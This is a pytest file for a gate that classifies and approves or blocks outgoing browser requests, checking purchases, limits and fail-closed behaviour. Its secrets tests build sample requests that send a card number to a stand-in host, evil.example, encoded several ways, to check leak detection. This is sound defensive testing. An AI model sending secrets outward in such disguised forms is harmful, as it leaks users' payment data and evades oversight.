"""A request at the wire: what it is taken for, what covers it, and that nothing goes when the gate is broken."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from policy_cases import AIR, case, field, narrow, node, pay, target

from actuators.action import TypeText
from policies.approver import DenyApprover, Question
from policies.broker import Broker, BrokerLost
from policies.decide import PolicySet
from policies.decision import Approval
from policies.keeper import Keeper
from policies.secrets import SecretSpec, SecretStore
from policies.sent import effect_of, sent_of
from policies.wire import sent_from, sent_to
from policies.wire_gate import WireGate
from sandboxes.wire import Held, answer, held_from

FORM = "application/x-www-form-urlencoded"
CARD = "4929123456781234"


def held(url: str = f"{AIR}/save", method: str = "POST", body: str = "", **told: Any) -> Held:
    told.setdefault("kind", "xhr")
    told.setdefault("content_type", FORM)
    return Held(url, method, sender=told.pop("sender", AIR), body=body.encode(), **told)


@pytest.mark.parametrize(
    ("one", "kind"),
    [
        (held(method="GET"), "look"),
        (held(f"{AIR}/pay.png", "GET"), "look"),
        (held(f"{AIR}/pay", "GET"), "buy"),
        (held(f"{AIR}/logout", "GET"), "submit"),
        (held(f"{AIR}/x?action=deleteAccount", "GET"), "delete"),
        (held(f"{AIR}/search?q=delete+everything", "GET"), "look"),
        (held(), "submit"),
        (held(method="DELETE"), "delete"),
        (held(f"{AIR}/api/transfer"), "buy"),
        (held(f"{AIR}/messages/send"), "send"),
        (held(f"{AIR}/order-history"), "submit"),
        (held(body="cardNumber=1"), "buy"),
        (held(body="amount=5"), "buy"),
        (held(body="total=5"), "submit"),
        (held(body='{"method":"account.close","op":"DELETE_ACCOUNT"}', content_type="application/json"), "delete"),
        (held(body='[{"query":"mutation{ sendMessage(to: 1) }"}]', content_type="text/plain"), "send"),
        (held(body='{"query":"query { orders { id } }"}', content_type="application/json"), "submit"),
        (held(readable=False), "unknown"),
        (held(body="{}", content_type="application/json"), "submit"),
        (held(body="[]", content_type="application/json"), "submit"),
        (held(body='{"a": {}}', content_type="application/json"), "submit"),
        (held(body="{", content_type="application/json"), "unknown"),
        (held(body="no parts", content_type="multipart/form-data; boundary=x"), "unknown"),
        (held(body="\x00\x01 what is this", content_type="application/octet-stream"), "unknown"),
        (held("wss://air.example/live", "SEND", "delete me", kind="message"), "submit"),
    ],
)
def test_what_a_request_is_taken_for(one: Held, kind: str) -> None:
    assert effect_of(sent_of(one)).kind == kind


@pytest.mark.parametrize(
    ("body", "shape", "minor", "currency"),
    [
        ("amount_cents=8900&currency=EUR", FORM, 8900, "EUR"),
        ('{"amount": 89, "currency": "eur"}', "application/json", 8900, "EUR"),
        (
            '{"payment": {"amount": {"value": 1}, "amountMinor": 8900}, "currency": "CHF"}',
            "application/json",
            8900,
            "CHF",
        ),
        ("amount=89.5", FORM, 8950, ""),
        ("amount=89,00 EUR", FORM, 8900, "EUR"),
    ],
)
def test_an_amount_is_read_from_the_fields(body: str, shape: str, minor: int, currency: str) -> None:
    amount = sent_of(held(body=body, content_type=shape)).amount
    assert amount is not None and (amount.minor, amount.currency) == (minor, currency)


@pytest.mark.parametrize("body", ["amount=1e3", "amount=0x10", "amount=1.234,5.6", "amount=1&amount=2", "amount=ten"])
def test_an_amount_that_is_unclear_is_no_amount(body: str) -> None:
    assert sent_of(held(body=body)).amount is None


def test_fields_are_told_by_name_and_length_only() -> None:
    boundary = "x"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n'
        f'--{boundary}\r\nContent-Disposition: form-data; name="scan"; filename="a.pdf"\r\n\r\nbytes\r\n--{boundary}--\r\n'
    )
    sent = sent_of(held(body=body, content_type=f"multipart/form-data; boundary={boundary}"))
    assert [(part.name, part.length, part.file) for part in sent.parts] == [("note", 5, False), ("scan", 0, True)]
    assert "hello" not in json.dumps(sent_to(sent))
    assert sent_from(json.loads(json.dumps(sent_to(sent)))) == sent


@given(
    st.binary(max_size=300), st.sampled_from([FORM, "application/json", "multipart/form-data; boundary=a", "", "x/y"])
)
def test_any_body_can_be_judged(body: bytes, shape: str) -> None:
    sent = sent_of(Held(f"{AIR}/save", "POST", "xhr", AIR, body, True, shape))
    assert effect_of(sent).rank >= effect_of(sent_of(held())).rank


KEEPER = Keeper("run", PolicySet.load(["booking"], narrow()), DenyApprover())


@given(st.text(max_size=200), st.sampled_from(["GET", "POST", "PROPFIND", "get"]), st.text(max_size=20))
def test_any_address_can_be_judged_and_only_the_runs_places_are_let_through(url: str, method: str, kind: str) -> None:
    assert not KEEPER.send(sent_of(Held(url, method, kind, AIR))).released


# ---------------------------------------------------------------- the leave for an act


class Yes:
    """A person who says yes to everything."""

    def __init__(self) -> None:
        self.asked: list[Question] = []

    def ask(self, question: Question) -> Approval:
        self.asked.append(question)
        return question.answered(Approval("approved", "test"))


def keeper(approver: Any = None, rules: str = "booking") -> Keeper:
    return Keeper("run", PolicySet.load([rules], narrow(ask_above="100 EUR", max_buys=2)), approver or DenyApprover())


def pressed(on: Any, approver: Any = None) -> Keeper:
    made = keeper(approver)
    assert made.clear(case(on)).permit is not None
    return made


PAYS = held(f"{AIR}/payment", body="card_number=1&amount=89.00&currency=EUR", kind="document")


def test_an_act_covers_its_own_request_once() -> None:
    made = pressed(pay())
    first, second = made.send(sent_of(PAYS)), made.send(sent_of(PAYS))
    assert first.released and not second.released
    assert "second" in second.facts["uncovered"]


def test_a_purchase_that_nobody_pressed_is_asked_about() -> None:
    decided = keeper().send(sent_of(PAYS))
    assert (decided.decision.verdict, decided.released) == ("ask", False)
    assert decided.approval is not None and decided.approval.answer == "nobody"


def test_another_amount_than_the_one_judged_is_asked_about() -> None:
    other = held(f"{AIR}/payment", body="card_number=1&amount=98.00&currency=EUR")
    decided = pressed(pay()).send(sent_of(other))
    assert not decided.released and "98.00 EUR" in decided.facts["uncovered"]


def test_a_button_that_was_judged_to_search_covers_no_purchase() -> None:
    decided = pressed(target(node("button", "Search"))).send(sent_of(PAYS))
    assert not decided.released


def test_typing_covers_nothing_that_sends() -> None:
    made = keeper()
    assert made.clear(case(target(field(focused=True)), action=TypeText(text="a"))).permit is not None
    assert not made.send(sent_of(held(f"{AIR}/api/transfer"))).released
    assert made.send(sent_of(held(f"{AIR}/autosave"))).released, "booking lets a page of the task save"


def test_an_act_is_forgotten_after_a_while(monkeypatch: pytest.MonkeyPatch) -> None:
    made = pressed(pay())
    later = time.monotonic() + 60
    monkeypatch.setattr(time, "monotonic", lambda: later)
    assert not made.send(sent_of(PAYS)).released


def test_a_person_is_asked_about_the_request_itself() -> None:
    yes = Yes()
    made = keeper(yes)
    decided = made.send(sent_of(PAYS))
    assert decided.released and decided.decision.verdict == "ask"
    [question] = yes.asked
    assert question.sent is not None and question.sent.shown == f"POST {AIR}/payment"


def test_a_yes_to_another_request_is_no_yes() -> None:
    class Mixed(Yes):
        def ask(self, question: Question) -> Approval:
            return Approval("approved", "test", 0.0, "0" * 64)

    assert not keeper(Mixed()).send(sent_of(PAYS)).released


def test_a_person_cannot_lift_a_hard_rule() -> None:
    leaking = sent_of(PAYS, leaks=("card",))
    yes = Yes()
    assert not keeper(yes).send(leaking).released and yes.asked == []


def test_what_leaves_without_an_act_counts() -> None:
    made = keeper(Yes())
    assert [made.send(sent_of(PAYS)).released for _ in range(3)] == [True, True, False], "max_buys is 2"


def test_under_observe_and_browse_nothing_is_sent() -> None:
    for rules in ("observe", "browse"):
        made = keeper(Yes(), rules)
        assert not made.send(sent_of(held())).released
        assert made.send(sent_of(held(method="GET"))).released


# ---------------------------------------------------------------- secrets


def secrets() -> SecretStore:
    spec = SecretSpec(env="X", origins=(AIR,))
    return SecretStore({"card": spec}, {"card": CARD})


@pytest.mark.parametrize(
    "body",
    [
        f"a={CARD}",
        "a=4929+1234+5678+1234",
        f"a={CARD[::-1]}",
        f"a={CARD.encode().hex()}",
        f"a=%34{CARD[1:]}",
        '{"x":"NDkyOTEyMzQ1Njc4MTIzNA=="}',
    ],
)
def test_a_secret_on_its_way_elsewhere_is_found(body: str) -> None:
    assert secrets().leaks(held("https://evil.example/c", body=body)) == ("card",)
    assert secrets().leaks(held(f"{AIR}/payment", body=body)) == ()


def test_a_secret_in_an_address_is_found_wherever_it_goes() -> None:
    assert secrets().leaks(held(f"{AIR}/?q={CARD}", "GET")) == ("card",)
    assert secrets().leaks(held(f"wss://evil.example/{CARD}", "GET")) == ("card",)


# ---------------------------------------------------------------- broken


class Broken:
    def __init__(self, error: Exception) -> None:
        self.error = error

    def send(self, sent: Any) -> Any:
        raise self.error


@pytest.mark.parametrize("error", [BrokerLost("gone"), RuntimeError("on purpose"), ValueError("garbage")])
def test_a_gate_whose_broker_breaks_keeps_everything_back_and_says_so(error: Exception) -> None:
    gate = WireGate(Broken(error), lambda one: (), lambda one: None)  # type: ignore[arg-type]
    assert [gate(held(method="GET")), gate(held(method="GET"))] == [False, False]
    with pytest.raises(type(error)):
        gate.kept()


def test_a_gate_whose_trail_breaks_keeps_everything_back() -> None:
    def told(one: Any) -> None:
        raise OSError(28, "No space left on device")

    gate = WireGate(keeper(), lambda one: (), told)  # type: ignore[arg-type]
    assert gate(held(method="GET"))
    assert not gate(held())
    assert not gate(held(method="GET"))
    with pytest.raises(OSError):
        gate.kept()


def test_a_gate_that_cannot_look_for_secrets_keeps_everything_back() -> None:
    gate = WireGate(keeper(), lambda one: 1 / 0, lambda one: None)  # type: ignore[arg-type, return-value]
    assert not gate(held(method="GET"))


def test_a_request_goes_through_the_real_broker() -> None:
    told: list[Any] = []
    with Broker("run", ["booking"], narrow(ask_above="100 EUR")) as broker:
        gate = WireGate(broker, secrets().leaks, told.append)
        assert gate(held(f"{AIR}/", "GET", kind="document")) and told == []
        assert not gate(held(f"{AIR}/payment", body=f"x={CARD}", sender="https://evil.example"))
        assert not gate(held("https://evil.example/c", body=f"x={CARD}"))
        assert broker.clear(case(pay())).permit is not None
        assert gate(PAYS)
    [first, second] = gate.kept()
    assert "secret" in second.why and not first.own
    assert [one.released for one in told] == [False, False, True] and told[2].own


COUNTS = held("https://counter.example/hit", body="page=pay", kind="fetch")


def test_what_a_page_sends_to_somebody_else_is_not_what_the_act_was_for() -> None:
    """A counter of visitors that is kept back does not make the payment beside it a refusal."""
    gate = WireGate(pressed(pay()), lambda one: (), lambda one: None)  # type: ignore[arg-type]
    assert [gate(COUNTS), gate(PAYS), gate(held(f"{AIR}/metrics/pay", body="n=1"))] == [False, True, False]
    counted, again = gate.kept()
    assert (counted.own, again.own, again.beside) == (False, False, True)


def test_an_act_whose_own_request_is_kept_back_came_to_nothing() -> None:
    dearer = held(f"{AIR}/payment", body="card_number=1&amount=98.00&currency=EUR", kind="document")
    gate = WireGate(pressed(pay()), lambda one: (), lambda one: None)  # type: ignore[arg-type]
    assert [gate(dearer), gate(COUNTS)] == [False, False]
    assert [one.own for one in gate.kept()] == [True, False]


# ---------------------------------------------------------------- the browser's words


def test_files_are_not_readable_and_bodies_are() -> None:
    event = {"resourceType": "Document", "requestId": "1", "request": {"url": AIR, "method": "POST", "headers": {}}}
    assert held_from(event).readable and held_from(event).kind == "document"
    event["request"] |= {"hasPostData": True}  # type: ignore[operator]
    assert not held_from(event).readable
    event["request"] |= {"postDataEntries": [{"bytes": "YT0x"}, {}]}  # type: ignore[operator]
    assert not held_from(event).readable
    event["request"] |= {"postDataEntries": [{"bytes": "YT0x"}]}  # type: ignore[operator]
    assert (held_from(event).readable, held_from(event).body) == (True, b"a=1")


def test_a_navigation_is_kept_back_without_losing_the_page() -> None:
    assert answer(False, {"requestId": "1", "resourceType": "Document"})[0] == "Fetch.fulfillRequest"
    assert answer(False, {"requestId": "1", "resourceType": "XHR"})[1]["errorReason"] == "Aborted"
